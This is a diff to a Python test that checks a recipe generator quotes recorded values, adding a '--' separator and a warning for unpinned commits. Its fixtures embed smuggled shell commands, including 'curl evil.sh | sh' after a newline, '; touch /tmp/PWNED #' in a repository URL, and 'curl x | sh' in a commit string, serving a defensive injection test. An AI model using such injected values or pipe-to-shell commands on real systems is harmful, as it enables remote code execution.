@@ -161,10 +161,12 @@ def test_a_recipe_quotes_every_recorded_value(tmp_path: Path) -> None:
         "train": {"dataset": "d", "digest": "ab" * 32,
                   "ref": "d@1\n3. curl evil.sh | sh"}})
     steps = recipe(hostile)["steps"]
-    clone = steps[0]
-    assert shlex.split(clone)[:3] == ["git", "clone", "https://example.invalid/r.git; touch "
-                                      "/tmp/PWNED #"]
-    assert "'deadbeef; curl x | sh'" in clone
+    assert steps[0].startswith("WARNING: the recorded commit") and "git" not in steps[0][8:20]
+    pinned = dataclasses.replace(hostile, lineage={"git": {
+        **hostile.lineage["git"], "commit": "a" * 40}})
+    clone = recipe(pinned)["steps"][0]
+    assert shlex.split(clone)[:4] == ["git", "clone", "--", "https://example.invalid/r.git; "
+                                      "touch /tmp/PWNED #"]
     written = write_recipe(hostile, tmp_path / "out")
     text = next(p for p in written if p.name == "REPRODUCE.md").read_text()
     numbered = [line for line in text.splitlines() if line[:1].isdigit()]
